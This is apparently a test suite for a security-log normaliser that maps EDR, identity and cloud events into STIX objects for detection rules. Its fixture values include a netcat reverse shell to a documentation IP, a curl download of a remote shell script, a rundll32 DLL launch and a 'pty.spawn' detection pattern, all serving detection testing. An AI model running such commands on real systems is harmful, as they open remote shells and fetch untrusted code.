import { describe, expect, it } from 'vitest';
import { createNormaliser } from '../../src/normalise/index.js';
import type { ObservedEvent, StixObject } from '../../src/stix/types.js';
import { byId, expectWellFormed, ofType, single } from './helpers.js';
import { fires, fixture, fixtureEvents } from './fixtures.js';

const normaliser = createNormaliser({ tenant: 'acme' });

function recognised(event: unknown, mapping: string): ObservedEvent {
  const result = normaliser.normalise(event);
  expect(result.ok ? result.mapping : result.diagnostic.message).toBe(mapping);
  const observed = single(result);
  expectWellFormed(observed);
  return observed;
}

function anchorOf(event: ObservedEvent): StixObject {
  const [anchor] = ofType(event, 'x-oca-event');
  if (anchor === undefined) throw new Error('the event has no x-oca-event anchor');
  return anchor;
}

describe('crowdstrike-fdr', () => {
  const [process, connection] = fixtureEvents('crowdstrike-fdr', 'events.ndjson').map((e) =>
    recognised(e, 'crowdstrike-fdr'),
  );

  it('maps ProcessRollup2: image, hashes, parent and user', () => {
    if (process === undefined) throw new Error('no event');
    const anchor = anchorOf(process);
    expect(anchor).toMatchObject({ action: 'ProcessRollup2' });
    const proc = byId(process, anchor.process_ref);
    expect(proc).toMatchObject({
      name: 'rundll32.exe',
      pid: 6120,
      command_line: 'rundll32.exe C:\\Users\\Public\\a.dll,Start',
    });
    expect(byId(process, proc.image_ref)).toMatchObject({
      hashes: { 'SHA-256': '01b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90' },
    });
    expect(byId(process, anchor.parent_process_ref)).toMatchObject({ name: 'excel.exe' });
    expect(byId(process, proc.creator_user_ref)).toMatchObject({ account_login: 'mlee' });
    expect(process.observedData.first_observed).toBe('2024-06-03T09:00:00.123Z');
    expect(
      fires("[x-oca-event:action = 'ProcessRollup2' AND x-oca-event:parent_process_ref.name = 'excel.exe']", process),
    ).toBe(true);
  });

  it('maps NetworkConnectIP4 with the protocol number looked up', () => {
    if (connection === undefined) throw new Error('no event');
    expect(byId(connection, anchorOf(connection).network_ref)).toMatchObject({
      src_port: 50555,
      dst_port: 8443,
      protocols: ['tcp'],
    });
  });
});

describe('okta', () => {
  const event = recognised(fixture('okta', 'system-log.json'), 'okta');

  it('maps the actor, the client, the outcome and one object per target', () => {
    const anchor = anchorOf(event);
    expect(anchor).toMatchObject({
      action: 'user.session.start',
      outcome: 'failure',
      x_outcome_reason: 'INVALID_CREDENTIALS',
    });
    expect(byId(event, anchor.user_ref)).toMatchObject({
      account_login: 'pat@corp.example',
      user_id: '00u1abcdEFGHijkl0h7',
    });
    const traffic = byId(event, anchor.network_ref);
    expect(byId(event, traffic.src_ref)).toMatchObject({ value: '198.51.100.200' });
    expect(
      ofType(event, 'x-okta-target')
        .map((t) => t.target_type)
        .sort(),
    ).toEqual(['AppInstance', 'User']);
    expect(event.observedData.x_source_event_id).toBe('a1b2c3d4-e5f6-11ee-8c90-0242ac120002');
    expect(
      fires(
        "[x-oca-event:action = 'user.session.start' AND x-oca-event:outcome = 'failure' AND x-oca-event:network_ref.src_ref.value = '198.51.100.200']",
        event,
      ),
    ).toBe(true);
  });
});

describe('entra-id', () => {
  it('maps a sign-in: user, client address, app and failure', () => {
    const event = recognised(fixture('entra-id', 'sign-in.json'), 'entra-id');
    const anchor = anchorOf(event);
    expect(anchor).toMatchObject({
      action: 'Sign-in activity',
      category: ['SignInLogs'],
      x_error_code: '50126',
      x_app_name: 'Office 365 Exchange Online',
      x_client_app: 'IMAP4',
    });
    expect(byId(event, anchor.user_ref)).toMatchObject({ account_login: 'sam@corp.example' });
    expect(byId(event, byId(event, anchor.network_ref).src_ref)).toMatchObject({ value: '192.0.2.45' });
  });

  it('reads field names in any case', () => {
    const lower = JSON.parse(
      JSON.stringify(fixture('entra-id', 'sign-in.json'))
        .replace('"operationName"', '"operationname"')
        .replace('"callerIpAddress"', '"calleripaddress"'),
    ) as unknown;
    const anchor = anchorOf(recognised(lower, 'entra-id'));
    expect(anchor.action).toBe('Sign-in activity');
  });
});

describe('linux-auditd', () => {
  it('maps one audit event from its records: process, arguments, cwd, user, files', () => {
    const [record] = fixtureEvents('linux-auditd', 'audit.log');
    const event = recognised(record, 'linux-auditd');
    const anchor = anchorOf(event);
    expect(anchor).toMatchObject({ code: '59', outcome: 'yes', x_key: 'exec' });
    const proc = byId(event, anchor.process_ref);
    expect(proc).toMatchObject({
      pid: 2291,
      name: 'curl',
      cwd: '/root',
      command_line: 'curl -o /tmp/x',
      x_args: ['curl', '-o', '/tmp/x'],
    });
    expect(byId(event, anchor.parent_process_ref)).toMatchObject({ pid: 2210 });
    expect(byId(event, proc.creator_user_ref)).toMatchObject({ user_id: '0', x_audit_user_id: '1000' });
    expect(
      ofType(event, 'file')
        .map((f) => f.x_path)
        .filter(Boolean)
        .sort(),
    ).toEqual(['/lib64/ld-linux-x86-64.so.2', '/usr/bin/curl']);
    expect(event.observedData.x_source_event_id).toBe('1717405500.250|8812');
  });
});

describe('osquery', () => {
  const [diff, snapshot] = fixtureEvents('osquery', 'results.ndjson').map((e) => recognised(e, 'osquery'));

  it('maps differential process rows', () => {
    if (diff === undefined) throw new Error('no event');
    const anchor = anchorOf(diff);
    expect(anchor).toMatchObject({ action: 'added', x_query_name: 'pack_incident-response_process_events' });
    expect(byId(diff, anchor.process_ref)).toMatchObject({ pid: 4411, command_line: 'nc -e /bin/sh 203.0.113.5 4444' });
    expect(byId(diff, anchor.host_ref)).toMatchObject({ hostname: 'build-07.corp.example' });
  });

  it('takes the event time from calendarTime (C asctime text, UTC) when unixTime is not there', () => {
    const event = recognised(fixture('osquery', 'calendar-time-only.json'), 'osquery');
    expect(event.observedData).toMatchObject({ first_observed: '2024-06-04T07:05:09Z' });
    expect(byId(event, anchorOf(event).process_ref)).toMatchObject({
      pid: 5120,
      command_line: 'curl -s http://203.0.113.7/x.sh',
    });
  });

  it('maps snapshot rows one process per row', () => {
    if (snapshot === undefined) throw new Error('no event');
    expect(
      ofType(snapshot, 'process')
        .map((p) => p.name)
        .sort(),
    ).toEqual(['init', 'nc']);
  });
});

describe('ocsf', () => {
  it('maps Process Activity: process, parent, actor user, device', () => {
    const event = recognised(fixture('ocsf', 'process-activity.json'), 'ocsf');
    const anchor = anchorOf(event);
    expect(anchor).toMatchObject({ code: '1007', action: 'Launch', outcome: 'success', provider: 'Example EDR' });
    const proc = byId(event, anchor.process_ref);
    expect(proc).toMatchObject({ name: 'python3', pid: 901 });
    expect(byId(event, anchor.parent_process_ref)).toMatchObject({ name: 'bash', pid: 900 });
    expect(byId(event, anchor.user_ref)).toMatchObject({ account_login: 'root' });
    expect(
      fires("[x-oca-event:code = '1007' AND x-oca-event:process_ref.command_line LIKE '%pty.spawn%']", event),
    ).toBe(true);
  });
});

describe('aws-guardduty', () => {
  it('opens an EventBridge event and maps the finding: type, instance, the inbound connection', () => {
    const event = recognised(fixture('aws-guardduty', 'finding.json'), 'aws-guardduty');
    const anchor = anchorOf(event);
    expect(anchor).toMatchObject({
      action: 'UnauthorizedAccess:EC2/SSHBruteForce',
      x_severity: 2,
      category: ['finding'],
    });
    const traffic = byId(event, anchor.network_ref);
    expect(traffic).toMatchObject({ dst_port: 22, src_port: 40222, protocols: ['tcp'] });
    expect(byId(event, traffic.src_ref)).toMatchObject({ value: '198.51.100.66' });
    expect(byId(event, anchor.host_ref)).toMatchObject({
      device_id: 'i-0abc123def4567890',
      hostname: 'ip-10-0-1-20.ec2.internal',
    });
    expect(event.observedData).toMatchObject({
      first_observed: '2024-06-03T09:50:00.000Z',
      last_observed: '2024-06-03T09:59:00.000Z',
    });
  });
});

describe('sentinel-syslog', () => {
  const [sysmon, auoms] = fixtureEvents('sentinel-syslog', 'rows.ndjson').map((e) => recognised(e, 'sentinel-syslog'));

  it('parses Sysmon for Linux XML in SyslogMessage', () => {
    if (sysmon === undefined) throw new Error('no event');
    const anchor = anchorOf(sysmon);
    expect(anchor).toMatchObject({ code: '1', action: 'process_create', provider: 'Linux-Sysmon' });
    expect(byId(sysmon, anchor.process_ref)).toMatchObject({
      name: 'bash',
      pid: 4242,
      command_line: 'bash -c id && whoami',
    });
    expect(byId(sysmon, anchor.parent_process_ref)).toMatchObject({ name: 'apache2', pid: 4200 });
    expect(sysmon.observedData.first_observed).toBe('2024-06-03T11:00:00.245000000Z');
    expect(
      fires("[x-oca-event:action = 'process_create' AND x-oca-event:parent_process_ref.name = 'apache2']", sysmon),
    ).toBe(true);
  });

  it('parses AUOMS audit text in SyslogMessage', () => {
    if (auoms === undefined) throw new Error('no event');
    const anchor = anchorOf(auoms);
    expect(anchor).toMatchObject({ action: 'AUOMS_EXECVE', outcome: 'yes', x_key: 'exec' });
    expect(byId(auoms, anchor.process_ref)).toMatchObject({ name: 'curl', pid: 4250, cwd: '/var/www' });
    expect(byId(auoms, anchor.user_ref)).toMatchObject({ account_login: 'www-data', user_id: '33' });
  });
});
